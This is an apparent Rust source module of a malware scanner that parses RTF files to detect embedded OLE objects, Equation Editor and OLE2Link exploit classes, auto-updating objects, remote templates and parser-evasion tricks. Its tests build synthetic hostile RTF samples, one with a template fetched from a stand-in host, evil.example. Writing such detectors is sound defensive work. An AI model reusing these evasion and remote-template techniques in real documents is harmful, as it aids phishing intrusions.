//! RTF: a lenient scanner, not a full parser (RTF 1.9.1 specification; Word's own reader is more
//! forgiving still, and exploit kits rely on that). Finds embedded objects (`\object` groups with
//! `\objdata` hex: whitespace, junk and `\bin` runs tolerated), decodes their OLE1 header (MS-OLEDS
//! §2.2.4) and hands the native data on as a child (usually a compound file); flags Equation Editor
//! objects (CVE-2017-11882 class, T1203), Packager files, auto-updating objects, remote templates
//! (T1221) and the header and nesting tricks used to confuse other parsers. Also pulls out plain text
//! for the lure detectors.

use super::native;
use crate::{Node, Walk};
use spearwatch_core::{technique as t, Severity};

/// One `\object` group.
#[derive(Debug, Default, Clone)]
pub(crate) struct Object {
    /// `{\*\objclass ...}` text.
    pub class: String,
    /// Decoded `\objdata`.
    pub data: Vec<u8>,
    /// `\objupdate`: the object refreshes itself (loads its server) when the document opens.
    pub update: bool,
    /// `\objlink`/`\objautlink`: a link, not an embedded copy.
    pub linked: bool,
    /// Non-hex characters or control words inside `\objdata`.
    pub junk: usize,
}

/// What the scan found.
#[derive(Debug, Default)]
pub(crate) struct Scan {
    pub objects: Vec<Object>,
    pub template: Option<String>,
    pub max_depth: usize,
    pub groups: usize,
    pub text: String,
    /// `\ucN`: how many fallback characters follow each `\uN` (document-wide approximation).
    uc: usize,
    /// Fallback characters still to drop after the last `\uN`.
    skip: usize,
    /// Objects that carry data or a class (empty `\object` groups do not count toward the cap).
    carrying: usize,
    /// The object cap was hit: later objects were not read.
    pub capped: bool,
}

/// Objects with data or a class read from one document.
const MAX_OBJECTS: usize = 1000;
/// Object slots at all, empty ones included: an empty object is dropped when its group closes unless
/// it encloses another object, so this only bounds hostile nesting.
const MAX_SLOTS: usize = 20_000;

impl Object {
    /// Whether the object carries anything to analyse (a bare `\object` word does not).
    fn carries(&self) -> bool {
        !self.data.is_empty() || !self.class.trim().is_empty()
    }
}

/// A new object for an `\object` (or stray `\objdata`) group, unless the caps are reached.
fn new_object(s: &mut Scan) -> Option<usize> {
    if s.carrying >= MAX_OBJECTS || s.objects.len() >= MAX_SLOTS {
        s.capped = true;
        return None;
    }
    s.objects.push(Object::default());
    Some(s.objects.len() - 1)
}

#[derive(Clone, Copy, PartialEq, Eq)]
enum Dest {
    Text,
    /// A destination whose text is not document text (font table, picture, `{\*...}`).
    Skip,
    ObjData,
    ObjClass,
    Template,
}

#[derive(Clone, Copy)]
struct Group {
    dest: Dest,
    /// Index into `objects` of the `\object` this group belongs to.
    object: Option<usize>,
    /// `\*` seen: an ignorable destination unless the next word is one we read.
    starred: bool,
    /// Text may still be skipped by a destination word right after the brace.
    fresh: bool,
    /// This group created `object` (its `\object` word is in it).
    owns: bool,
}

/// Destinations whose content is not document text.
const NON_TEXT: &[&str] = &[
    "fonttbl",
    "colortbl",
    "stylesheet",
    "info",
    "pict",
    "object",
    "objdata",
    "themedata",
    "colorschememapping",
    "datastore",
    "latentstyles",
    "listtable",
    "listoverridetable",
    "rsidtbl",
    "generator",
    "xmlnstbl",
    "filetbl",
    "revtbl",
    "header",
    "footer",
    "headerl",
    "headerr",
    "footerl",
    "footerr",
    "fldinst",
    "result",
    "shpinst",
    "sp",
    "sn",
    "sv",
    "bkmkstart",
    "bkmkend",
    "pgdsctbl",
    "mmathpr",
    "wgrffmtfilter",
    "pnseclvl",
    "listtext",
    "nonshppict",
    "blipuid",
    "panose",
];

pub(crate) fn scan(data: &[u8]) -> Scan {
    let mut s = Scan {
        uc: 1,
        ..Scan::default()
    };
    let mut stack: Vec<Group> = vec![Group {
        dest: Dest::Text,
        object: None,
        starred: false,
        fresh: false,
        owns: false,
    }];
    let mut nibble: Option<u8> = None;
    let mut i = 0usize;
    let n = data.len();
    while i < n {
        let c = data[i];
        match c {
            b'{' => {
                let parent = *stack.last().unwrap_or(&Group {
                    dest: Dest::Text,
                    object: None,
                    starred: false,
                    fresh: false,
                    owns: false,
                });
                let dest = match parent.dest {
                    Dest::Text => Dest::Text,
                    // Word ignores the text of groups nested in \objdata (junk groups in exploit kits).
                    _ => Dest::Skip,
                };
                s.groups += 1;
                if stack.len() < 10_000 {
                    stack.push(Group {
                        dest,
                        object: parent.object,
                        starred: false,
                        fresh: true,
                        owns: false,
                    });
                }
                s.max_depth = s.max_depth.max(stack.len());
                i += 1;
            }
            b'}' => {
                if stack.len() > 1 {
                    if let Some(g) = stack.pop() {
                        // An object group that closes empty (junk groups repeat `{\object}` by the
                        // thousand) gives its slot back, so that it cannot use up the object cap.
                        let last = s.objects.len().checked_sub(1);
                        if g.owns
                            && g.object == last
                            && s.objects.last().is_some_and(|o| !o.carries())
                        {
                            s.objects.pop();
                        }
                    }
                }
                i += 1;
            }
            b'\\' => {
                i += 1;
                let Some(&d) = data.get(i) else { break };
                if !d.is_ascii_alphabetic() {
                    // Control symbol: \'hh is a character in the document's code page.
                    i += 1;
                    if d == b'*' {
                        if let Some(g) = stack.last_mut() {
                            g.starred = true;
                        }
                    } else if d == b'\'' {
                        if let Some(h) = data.get(i..i + 2) {
                            if let (Some(a), Some(b)) = (hex(h[0]), hex(h[1])) {
                                text_char(&mut s, &stack, char::from(a << 4 | b));
                            }
                        }
                        i += 2;
                    } else if let Some(g) = stack.last() {
                        if g.dest == Dest::ObjData {
                            if let Some(o) = g.object.and_then(|k| s.objects.get_mut(k)) {
                                o.junk += 1;
                            }
                        }
                    }
                    continue;
                }
                let start = i;
                while i < n && i - start < 32 && data[i].is_ascii_alphabetic() {
                    i += 1;
                }
                let word = std::str::from_utf8(&data[start..i])
                    .unwrap_or("")
                    .to_ascii_lowercase();
                let pstart = i;
                if data.get(i) == Some(&b'-') {
                    i += 1;
                }
                while i < n && i - pstart < 10 && data[i].is_ascii_digit() {
                    i += 1;
                }
                let param: Option<i64> = std::str::from_utf8(&data[pstart..i])
                    .ok()
                    .and_then(|p| p.parse().ok());
                if data.get(i) == Some(&b' ') {
                    i += 1;
                }
                control(&mut s, &mut stack, &word, param, data, &mut i, &mut nibble);
            }
            _ => {
                let g = *stack.last().unwrap_or(&Group {
                    dest: Dest::Text,
                    object: None,
                    starred: false,
                    fresh: false,
                    owns: false,
                });
                if let Some(top) = stack.last_mut() {
                    top.fresh = false;
                }
                match g.dest {
                    Dest::ObjData => {
                        if let Some(o) = g.object.and_then(|k| s.objects.get_mut(k)) {
                            if let Some(v) = hex(c) {
                                match nibble.take() {
                                    Some(h) => {
                                        if !o.carries() {
                                            s.carrying += 1;
                                        }
                                        o.data.push(h << 4 | v)
                                    }
                                    None => nibble = Some(v),
                                }
                            } else if !c.is_ascii_whitespace() && c != 0 {
                                o.junk += 1;
                            }
                        }
                    }
                    Dest::ObjClass => {
                        if let Some(o) = g.object.and_then(|k| s.objects.get_mut(k)) {
                            if o.class.len() < 256 && !c.is_ascii_control() {
                                if !o.carries() && !c.is_ascii_whitespace() {
                                    s.carrying += 1;
                                }
                                o.class.push(char::from(c));
                            }
                        }
                    }
                    Dest::Template => {
                        let t = s.template.get_or_insert_with(String::new);
                        if t.len() < 2048 && !c.is_ascii_control() {
                            t.push(char::from(c));
                        }
                    }
                    Dest::Text => {
                        if !matches!(c, b'\r' | b'\n') {
                            text_char(&mut s, &stack, char::from(c));
                        }
                    }
                    Dest::Skip => {}
                }
                i += 1;
            }
        }
    }
    s
}

fn text_char(s: &mut Scan, stack: &[Group], c: char) {
    if s.skip > 0 {
        s.skip -= 1;
        return;
    }
    if stack.last().is_some_and(|g| g.dest == Dest::Text) && s.text.len() < crate::node::MAX_TEXT {
        s.text.push(c);
    }
}

fn control(
    s: &mut Scan,
    stack: &mut [Group],
    word: &str,
    param: Option<i64>,
    data: &[u8],
    i: &mut usize,
    nibble: &mut Option<u8>,
) {
    let Some(g) = stack.last_mut() else { return };
    let first = g.fresh;
    g.fresh = false;
    match word {
        // \binN: N raw bytes follow (RTF 1.9.1 "\bin").
        "bin" => {
            let len = param.unwrap_or(0).max(0) as usize;
            let end = i.saturating_add(len).min(data.len());
            if g.dest == Dest::ObjData {
                if let Some(o) = g.object.and_then(|k| s.objects.get_mut(k)) {
                    if !o.carries() && end > *i {
                        s.carrying += 1;
                    }
                    o.data
                        .extend_from_slice(data.get(*i..end).unwrap_or_default());
                }
            }
            *i = end;
        }
        "object" => {
            if let Some(k) = new_object(s) {
                g.object = Some(k);
                g.owns = true;
            }
            g.dest = Dest::Skip;
        }
        "objdata" => {
            g.dest = Dest::ObjData;
            *nibble = None;
            if g.object.is_none() {
                // \objdata outside an \object group: Word still reads it in some versions.
                if let Some(k) = new_object(s) {
                    g.object = Some(k);
                    g.owns = true;
                }
            }
        }
        "objclass" => g.dest = Dest::ObjClass,
        "objupdate" | "objautlink" | "objlink" => {
            if let Some(o) = g.object.and_then(|k| s.objects.get_mut(k)) {
                if word == "objupdate" {
                    o.update = true;
                } else {
                    o.linked = true;
                }
            }
        }
        "template" => g.dest = Dest::Template,
        "par" | "line" | "row" | "cell" | "sect" | "page" => text_char(s, stack, '\n'),
        "tab" => text_char(s, stack, '\t'),
        "uc" => s.uc = param.unwrap_or(1).clamp(0, 8) as usize,
        "u" => {
            // \uN is a signed 16-bit code unit; \ucN fallback characters follow it.
            if let Some(c) = param.and_then(|p| char::from_u32((p as i32 as u32) & 0xFFFF)) {
                s.skip = 0;
                text_char(s, stack, c);
            }
            s.skip = s.uc;
        }
        _ => {
            if g.dest == Dest::ObjData {
                if let Some(o) = g.object.and_then(|k| s.objects.get_mut(k)) {
                    o.junk += 1;
                }
            } else if first && (g.starred || NON_TEXT.contains(&word)) && g.dest == Dest::Text {
                g.dest = Dest::Skip;
            }
        }
    }
}

fn hex(c: u8) -> Option<u8> {
    match c {
        b'0'..=b'9' => Some(c - b'0'),
        b'a'..=b'f' => Some(c - b'a' + 10),
        b'A'..=b'F' => Some(c - b'A' + 10),
        _ => None,
    }
}

fn is_equation(class: &str) -> bool {
    class.trim().to_ascii_lowercase().starts_with("equation")
}

pub(crate) fn analyse(w: &mut Walk<'_>, node: &mut Node, data: &[u8]) {
    node.format = Some("RTF document".into());
    let mut odd = Vec::new();
    // Word accepts any header that starts with "{\rt"; "{\rtf1" is the only one other readers expect.
    if !data.starts_with(b"{\\rtf1") {
        let head: String = data
            .iter()
            .take(8)
            .map(|&c| {
                if c.is_ascii_graphic() {
                    char::from(c)
                } else {
                    '.'
                }
            })
            .collect();
        odd.push(format!("non-standard header \"{head}\""));
    }
    let s = scan(data);
    if s.capped {
        w.limit(
            node,
            "RTF objects",
            format!("more than {MAX_OBJECTS} embedded objects; the rest were not read"),
        );
    }
    if s.max_depth > 200 {
        odd.push(format!("groups nested {} deep", s.max_depth));
    }
    if !s.text.trim().is_empty() {
        node.push_text(&s.text);
    }
    if let Some(tpl) = s.template.as_deref().map(str::trim) {
        if super::is_remote(tpl) && !node.has("office.remote_template") {
            node.flag(
                "office.remote_template",
                Severity::Critical,
                "Document loads its template from a remote server (template injection)",
                &[t::TEMPLATE_INJECTION],
                tpl,
                "RTF {\\*\\template} destination",
            );
        }
    }
    let mut classes = Vec::new();
    for (k, o) in s.objects.iter().enumerate() {
        if w.expired(node) {
            return;
        }
        if o.data.is_empty() && o.class.trim().is_empty() {
            // A bare \object word (junk groups repeat it to confuse parsers).
            continue;
        }
        let where_ = format!("RTF object {}", k + 1);
        if o.junk > 0 {
            odd.push(format!(
                "{} non-hex tokens in the \\objdata of object {}",
                o.junk,
                k + 1
            ));
        }
        let ole1 = native::parse_ole1(&o.data);
        let class = ole1
            .as_ref()
            .map(|h| h.class.clone())
            .filter(|c| !c.is_empty())
            .unwrap_or_else(|| o.class.trim().to_string());
        classes.push(if class.is_empty() {
            "?".to_string()
        } else {
            class.clone()
        });
        if is_equation(&class) || is_equation(&o.class) {
            super::ole::flag_equation(node, &format!("{where_}: class {class}"));
        }
        if class.eq_ignore_ascii_case("OLE2Link") && !node.has("office.rtf_ole2link") {
            node.flag(
                "office.rtf_ole2link",
                Severity::Critical,
                "RTF embeds an OLE2Link object (CVE-2017-0199 exploit class)",
                &[t::EXPLOITATION_FOR_CLIENT_EXECUTION],
                &where_,
                "an OLE2Link object fetches and runs a remote HTA/script through the URL moniker",
            );
        }
        if o.update && !node.has("office.rtf_objupdate") {
            node.flag(
                "office.rtf_objupdate",
                Severity::Medium,
                "RTF object updates itself when the document opens (\\objupdate)",
                &[t::EXPLOITATION_FOR_CLIENT_EXECUTION],
                format!("{where_}: class {class}"),
                "\\objupdate loads the object's server without a click, as exploits need",
            );
        }
        match &ole1 {
            Some(h) if h.format_id == 1 || o.linked => {
                let target = format!("{} {}", h.topic, h.item).trim().to_string();
                if !node.has("office.rtf_linked_object") {
                    node.flag(
                        "office.rtf_linked_object",
                        if super::is_remote(&h.topic) {
                            Severity::High
                        } else {
                            Severity::Low
                        },
                        "RTF links an object from another file",
                        &[t::TEMPLATE_INJECTION],
                        &target,
                        format!("{where_}: class {class}"),
                    );
                }
            }
            Some(h) if class.eq_ignore_ascii_case("Package") => {
                match native::parse_package(h.native) {
                    Some(p) => native::package(w, node, &p, &where_),
                    None => w.child(node, &format!("{where_}.bin"), h.native),
                }
            }
            Some(h) if !h.native.is_empty() => {
                w.child(node, &format!("{where_} ({class})"), h.native)
            }
            Some(_) => {}
            None if !o.data.is_empty() => {
                // Not an OLE1 header: some kits put the compound file (or a PE) right in \objdata.
                let at = o
                    .data
                    .windows(8)
                    .position(|w| w == [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1]);
                let payload = at.map(|a| &o.data[a..]).unwrap_or(&o.data);
                w.child(node, &format!("{where_}.bin"), payload);
            }
            None => {}
        }
    }
    if !classes.is_empty() && !node.has("office.rtf_object") {
        node.flag(
            "office.rtf_object",
            Severity::Low,
            "RTF document embeds OLE objects",
            &[t::EMBEDDED_PAYLOADS],
            classes.join(", "),
            format!("{} \\object group(s)", classes.len()),
        );
    }
    if !odd.is_empty() && !node.has("office.rtf_obfuscated") {
        node.flag(
            "office.rtf_obfuscated",
            Severity::Low,
            "RTF is malformed in ways used to evade parsers",
            &[t::OBFUSCATED_FILES],
            odd.join("; "),
            "Word tolerates these; other readers and scanners may not",
        );
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::office::ole::tests::{ids, run};

    fn hexs(b: &[u8]) -> String {
        b.iter().map(|c| format!("{c:02x}")).collect()
    }

    fn ole1(class: &str, native: &[u8]) -> Vec<u8> {
        let mut b = vec![];
        b.extend_from_slice(&0x0501u32.to_le_bytes());
        b.extend_from_slice(&2u32.to_le_bytes());
        b.extend_from_slice(&(class.len() as u32 + 1).to_le_bytes());
        b.extend_from_slice(class.as_bytes());
        b.push(0);
        b.extend_from_slice(&0u32.to_le_bytes());
        b.extend_from_slice(&0u32.to_le_bytes());
        b.extend_from_slice(&(native.len() as u32).to_le_bytes());
        b.extend_from_slice(native);
        b
    }

    #[test]
    fn equation_object_with_junk_is_critical() {
        let h = hexs(&ole1("Equation.3", b"\x1c\x00\x00\x00"));
        // Whitespace, a junk group and a control word between the hex digits.
        let (a, b) = h.split_at(10);
        let doc = format!(
            "{{\\rtf1{{\\object\\objemb\\objupdate{{\\*\\objclass Equation.3}}{{\\*\\objdata {a}\r\n{{\\junk abc}}\\fnil {b}}}}}}}"
        );
        let s = scan(doc.as_bytes());
        assert_eq!(s.objects.len(), 1);
        assert_eq!(s.objects[0].class, "Equation.3");
        let n = run(doc.as_bytes(), "a.rtf");
        let found = ids(&n);
        assert!(
            found.contains(&"office.equation_editor".to_string()),
            "{found:?}"
        );
        assert!(found.contains(&"office.rtf_objupdate".to_string()));
        assert_eq!(n.format.as_deref(), Some("RTF document"));
    }

    #[test]
    fn package_object_is_extracted_by_name_and_text_is_kept() {
        let pkg = crate::office::native::tests::package("readme.vbs", b"WScript.Echo 1");
        let h = hexs(&ole1("Package", &pkg[4..]));
        let doc = format!("{{\\rtf1\\ansi {{\\fonttbl{{\\f0 Arial;}}}}Please open the file\\par {{\\object\\objemb{{\\*\\objdata {h}}}}}}}");
        let n = run(doc.as_bytes(), "a.rtf");
        assert!(ids(&n).contains(&"office.ole_package".to_string()));
        assert!(n.children.iter().any(|c| c.name == "readme.vbs"));
        assert!(n.text.contains("Please open the file"));
        assert!(!n.text.contains("Arial"));
    }

    #[test]
    fn bin_runs_remote_template_and_odd_header() {
        let native = ole1("Word.Document.8", b"abcd");
        let mut doc =
            b"{\\rt{\\*\\template http://evil.example/t.dot}{\\object{\\*\\objdata \\bin".to_vec();
        doc.extend_from_slice(format!("{} ", native.len()).as_bytes());
        doc.extend_from_slice(&native);
        doc.extend_from_slice(b"}}}");
        let s = scan(&doc);
        assert_eq!(s.objects[0].data, native);
        let n = run(&doc, "a.doc");
        let found = ids(&n);
        assert!(
            found.contains(&"office.remote_template".to_string()),
            "{found:?}"
        );
        assert!(found.contains(&"office.rtf_obfuscated".to_string()));
        assert!(n
            .children
            .iter()
            .any(|c| c.name.contains("Word.Document.8")));
    }

    #[test]
    fn unicode_text_drops_fallback_characters() {
        let s = scan(b"{\\rtf1\\uc1 caf\\u233\\'e9 ok\\par {\\*\\generator x;}done}");
        assert_eq!(s.text, "caf\u{e9} ok\ndone");
    }

    #[test]
    fn hostile_rtf_never_panics() {
        for d in [
            &b"{\\rtf1"[..],
            b"{\\",
            b"{\\bin99999999999",
            b"{{{{{{{{{{",
            b"}}}}\\'",
            b"{\\object{\\*\\objdata 0",
        ] {
            let _ = run(d, "x.rtf");
        }
        let deep = "{".repeat(50_000);
        let n = run(format!("{{\\rtf1{deep}").as_bytes(), "x.rtf");
        assert!(ids(&n).contains(&"office.rtf_obfuscated".to_string()));
    }

    #[test]
    fn empty_object_groups_do_not_use_up_the_cap() {
        let h = hexs(&ole1("Equation.3", b"\x1c\x00\x00\x00"));
        let mut doc = String::from("{\\rtf1 ");
        for _ in 0..5000 {
            doc.push_str("{\\object}");
        }
        // Empty groups nested around each other and around the real object, too.
        doc.push_str(&"{\\object ".repeat(100));
        doc.push_str(&format!(
            "{{\\object\\objemb{{\\*\\objclass Equation.3}}{{\\*\\objdata {h}}}}}"
        ));
        doc.push_str(&"}".repeat(100));
        doc.push('}');
        let t = std::time::Instant::now();
        let n = run(doc.as_bytes(), "a.rtf");
        assert!(t.elapsed().as_secs_f64() < 1.0, "{:?}", t.elapsed());
        let found = ids(&n);
        assert!(
            found.contains(&"office.equation_editor".to_string()),
            "{found:?}"
        );
        assert!(!found.contains(&"content.limit".to_string()), "{found:?}");
    }

    #[test]
    fn object_cap_is_flagged() {
        let mut doc = String::from("{\\rtf1 ");
        for _ in 0..MAX_OBJECTS {
            doc.push_str("{\\object{\\*\\objclass Paint.Picture}}");
        }
        doc.push_str("{\\object{\\*\\objclass OLE2Link}{\\*\\objdata 0102}}}");
        let s = scan(doc.as_bytes());
        assert!(s.capped);
        assert_eq!(s.objects.len(), MAX_OBJECTS);
        let n = run(doc.as_bytes(), "a.rtf");
        assert!(ids(&n).contains(&"content.limit".to_string()));
    }
}
